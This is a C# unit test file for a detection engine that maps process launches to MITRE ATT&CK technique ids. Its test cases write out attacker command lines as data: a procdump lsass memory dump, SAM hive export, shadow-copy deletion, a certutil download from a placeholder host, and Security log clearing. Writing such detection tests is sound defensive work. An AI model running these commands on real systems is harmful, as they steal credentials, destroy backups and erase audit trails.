using Changeling.Catalogues;
using Changeling.Core.Tests.Findings;
using Changeling.Features;
using Changeling.Rules;
using Changeling.TestSupport;

namespace Changeling.Core.Tests.Features;

/// <summary>ATT&amp;CK ids come from what is found in a launch.</summary>
public class ActListTests
{
    private static readonly WordFile File = WordFile.Read(typeof(WordFile), "found-acts.txt");

    [Fact]
    public void Every_act_of_the_list_is_a_telltale_or_behaviour()
    {
        string[] known = [.. Telltale.All.Select(t => $"telltale.{t.Name}"), .. BehaviourList.All.Select(b => $"behaviour.{b.Name}")];

        Assert.Empty(File.Groups.SelectMany(g => g.Texts).Except(known));
    }

    [Fact]
    public void Every_technique_of_the_list_has_a_name_in_a_version_that_ships() => Assert.All(File.Groups, group =>
        Assert.Contains(AttackNames.Versions.Select(AttackNames.Of), names => IsNamed(names, group)));

    [Fact]
    public void Every_act_of_the_list_has_a_technique_in_each_version_that_ships() =>
        Assert.All(AttackNames.Versions.Select(AttackNames.Of), names => Assert.Empty(
            File.Groups.SelectMany(g => g.Texts).Except(File.Groups.Where(g => IsNamed(names, g)).SelectMany(g => g.Texts))));

    [Theory]
    [InlineData("procdump.exe", "procdump.exe -ma lsass.exe out.dmp", "T1003.001")]
    [InlineData("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "T1490")]
    [InlineData("reg.exe", @"reg.exe save hklm\sam sam.hiv", "T1003.002")]
    [InlineData("certutil.exe", "certutil.exe -urlcache -split -f http://a.example/a.txt a.txt", "T1105")]
    [InlineData("wevtutil.exe", "wevtutil.exe cl Security", "T1685.001")]
    [InlineData("notepad.exe", "notepad.exe a.txt", null)]
    public void A_launch_has_the_techniques_of_what_is_found_in_it(string child, string commandLine, string? technique)
    {
        var acts = ActList.Of(Some.ProcessEvent(child: child, commandLine: commandLine), RuleSet.Shipped.Attack);

        if (technique is null) Assert.Empty(acts);
        else Assert.Contains(technique, acts.Select(a => a.Technique));
    }

    [Fact]
    public void An_older_version_gives_its_own_number() => Assert.Contains(
        new AttackReference("TA0005", "T1562.002"),
        ActList.Of(Some.ProcessEvent(child: "wevtutil.exe", commandLine: "wevtutil.exe cl Security"), AttackNames.Of("18.0")));

    [Theory]
    [InlineData("procdump.exe", null)]
    [InlineData("procdump64.exe", "procdump")]
    [InlineData("update.exe", "ProcDump.exe")]
    public void A_program_in_whose_line_nothing_is_found_has_the_technique_that_it_is_known_for(string child, string? original)
    {
        var e = Some.ProcessEvent(child: child, commandLine: $"{child} -ma w3wp.exe");
        var detection = GoldenDetections.Of(e with { Child = e.Child with { OriginalFileName = original } });

        Assert.Equal("T1003.001", detection.Attacks[0].Technique);
        Assert.DoesNotContain(detection.Attacks, a => a.Technique is "T1036" or "T1218");
    }

    [Fact]
    public void Where_nothing_is_found_the_leading_rule_gives_its_techniques()
    {
        var detection = GoldenDetections.Of(Some.ProcessEvent());

        Assert.NotEmpty(detection.Attacks);
        Assert.Equal(detection.Rule.Attack, detection.Attacks);
    }

    private static bool IsNamed(AttackNames names, WordGroup group) =>
        group.Name.Split(' ') is [var tactic, var technique]
            && names.Tactics.ContainsKey(tactic)
            && names.Techniques.ContainsKey(technique)
            && names.Techniques.ContainsKey(technique.Split('.')[0]);
}
